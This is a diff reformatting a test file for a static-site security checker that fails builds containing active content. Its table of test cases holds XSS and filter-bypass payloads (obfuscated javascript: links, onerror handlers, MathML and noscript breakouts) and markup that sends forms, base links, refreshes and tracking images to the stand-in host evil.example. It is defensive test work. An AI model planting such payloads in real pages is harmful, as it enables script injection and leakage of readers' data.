@@ -7,7 +7,6 @@ check every build runs) and fails on active content; the previous site stays.
 from __future__ import annotations
 
 import re
-from pathlib import Path
 
 import pytest
 from conftest import Project, make_project
@@ -37,13 +36,33 @@ ATTACKS = {
         "an <a href=java\\x09script:alert(1)> attribute",
         SCHEME,
     ),
-    "spaced-javascript": ('<a href=" \x01JaVaScRiPt:alert(1)">x</a>', "an <a href= \\x01JaVaScRiPt:alert(1)> attribute", SCHEME),
+    "spaced-javascript": (
+        '<a href=" \x01JaVaScRiPt:alert(1)">x</a>',
+        "an <a href= \\x01JaVaScRiPt:alert(1)> attribute",
+        SCHEME,
+    ),
     "attr-list-onclick": ('Click me\n{: onclick="alert(1)" }', "a <p onclick> attribute", HANDLER),
-    "iframe": ('<iframe src="../pic.png"></iframe>', "an <iframe> element", "pages embed no other page, plugin or document"),
-    "object": ('<object data="../pic.png"></object>', "an <object> element", "pages embed no other page, plugin or document"),
+    "iframe": (
+        '<iframe src="../pic.png"></iframe>',
+        "an <iframe> element",
+        "pages embed no other page, plugin or document",
+    ),
+    "object": (
+        '<object data="../pic.png"></object>',
+        "an <object> element",
+        "pages embed no other page, plugin or document",
+    ),
     "embed": ('<embed src="../pic.png">', "an <embed> element", "pages embed no other page, plugin or document"),
-    "form": ('<form action="https://evil.example/"><input name=q></form>', "a <form> element", "pages collect nothing from readers"),
-    "base": ('<base href="https://evil.example/">', "a <base> element", "it would send every relative link of the page elsewhere"),
+    "form": (
+        '<form action="https://evil.example/"><input name=q></form>',
+        "a <form> element",
+        "pages collect nothing from readers",
+    ),
+    "base": (
+        '<base href="https://evil.example/">',
+        "a <base> element",
+        "it would send every relative link of the page elsewhere",
+    ),
     "meta-refresh": (
         '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
         "a <meta> element",
@@ -60,9 +79,13 @@ ATTACKS = {
         "a <set> element",
         "SVG animation can turn a link into script",
     ),
-    "svg-image": ('<svg><image href="https://evil.example/x.png"/></svg>', "an <image href=https://evil.example/x.png> attribute", ELSEWHERE),
+    "svg-image": (
+        '<svg><image href="https://evil.example/x.png"/></svg>',
+        "an <image href=https://evil.example/x.png> attribute",
+        ELSEWHERE,
+    ),
     "math": (
-        '<math><mtext><table><mglyph><style><img src=../pic.png onerror=alert(1)></style></mglyph></table></mtext></math>',
+        "<math><mtext><table><mglyph><style><img src=../pic.png onerror=alert(1)></style></mglyph></table></mtext></math>",
         "a <math> element",
         "browsers read MathML differently from any checker, a known way to slip script in",
     ),
@@ -71,21 +94,41 @@ ATTACKS = {
         "a <link> element",
         "a page loads no stylesheet or other file of its own (the site's are listed in mkdocs.yml)",
     ),
-    "img-elsewhere": ('<img src="https://evil.example/track.png" alt="">', "an <img src=https://evil.example/track.png> attribute", ELSEWHERE),
-    "img-backslashes": ('<img src="\\\\evil.example/track.png" alt="">', "an <img src=\\\\evil.example/track.png> attribute", ELSEWHERE),
-    "srcset-elsewhere": ('<img src="../pic.png" srcset="https://evil.example/a.png 2x" alt="">', "an <img srcset=https://evil.example/a.png 2x> attribute", ELSEWHERE),
+    "img-elsewhere": (
+        '<img src="https://evil.example/track.png" alt="">',
+        "an <img src=https://evil.example/track.png> attribute",
+        ELSEWHERE,
+    ),
+    "img-backslashes": (
+        '<img src="\\\\evil.example/track.png" alt="">',
+        "an <img src=\\\\evil.example/track.png> attribute",
+        ELSEWHERE,
+    ),
+    "srcset-elsewhere": (
+        '<img src="../pic.png" srcset="https://evil.example/a.png 2x" alt="">',
+        "an <img srcset=https://evil.example/a.png 2x> attribute",
+        ELSEWHERE,
+    ),
     "style-attr-url": (
         '<p style="background:\\75 rl(//evil.example/t)">x</p>',
         "a <p style=background:\\75 rl(//evil.example/t)> attribute",
         "a style that runs script or loads a file from another site",
     ),
-    "ping": ('<a href="https://example.org/" ping="https://evil.example/">x</a>', "an <a ping> attribute", "pages embed, submit and report nothing"),
+    "ping": (
+        '<a href="https://example.org/" ping="https://evil.example/">x</a>',
+        "an <a ping> attribute",
+        "pages embed, submit and report nothing",
+    ),
     "noscript": (
         '<noscript><p title="</noscript><img src=../pic.png onerror=alert(1)>"></p></noscript>',
         "a <noscript> element",
         HIDES,
     ),
-    "textarea": ('<textarea><p title="</textarea><img src=../pic.png onerror=alert(1)>"></p></textarea>', "a <textarea> element", HIDES),
+    "textarea": (
+        '<textarea><p title="</textarea><img src=../pic.png onerror=alert(1)>"></p></textarea>',
+        "a <textarea> element",
+        HIDES,
+    ),
     "comment-bang": ("<!-- a --!><img src=../pic.png onerror=alert(1)> -->", "an <img onerror> attribute", HANDLER),
     "cdata": (
         "<![CDATA[><img src=../pic.png onerror=alert(1)>]]>",
@@ -241,10 +284,14 @@ def test_zensical_builds_are_checked_too(site_project: Project):
     (docs / "notes" / "index.md").write_text(hostile, encoding="utf-8")
     result = site_project.run("build", "--strict", "--engine", "zensical")
     assert result.returncode == 1
-    assert reported(result.stderr, "docs/notes/index.md", PAYLOAD_LINE, "notes/index.html", "an <img onerror> attribute", HANDLER)
+    assert reported(
+        result.stderr, "docs/notes/index.md", PAYLOAD_LINE, "notes/index.html", "an <img onerror> attribute", HANDLER
+    )
     # Zensical copies the heading's markup into the table of contents: one error, not two.
     script = [line for line in result.stderr.splitlines() if "a <script> element" in line]
-    assert len(script) == 1 and reported(result.stderr, "docs/notes/index.md", 7, "notes/index.html", "a <script> element", NO_SCRIPT)
+    assert len(script) == 1 and reported(
+        result.stderr, "docs/notes/index.md", 7, "notes/index.html", "a <script> element", NO_SCRIPT
+    )
     assert snapshot(site_project.root / "site") == before
 
 
@@ -275,7 +322,10 @@ def test_errors_name_the_hand_written_file_and_line(tmp_path):
     (site / "deep").mkdir()
     (site / "deep" / "index.html").write_text(built_page("<p onclick='go()'>x</p>"), encoding="utf-8")
     found = scan_site(site, docs=docs)
-    assert str(found[0].problem) == "docs/deep/index.md:3:1: error: a <p onclick> attribute in a hand-written page: " + HANDLER
+    assert (
+        str(found[0].problem)
+        == "docs/deep/index.md:3:1: error: a <p onclick> attribute in a hand-written page: " + HANDLER
+    )
     assert [str(f) for f in found] == [
         "docs/deep/index.md:3:1: a <p onclick> attribute in a hand-written page: " + HANDLER,
         "docs/notes.md:11:1: a <script> element in a hand-written page: " + NO_SCRIPT,
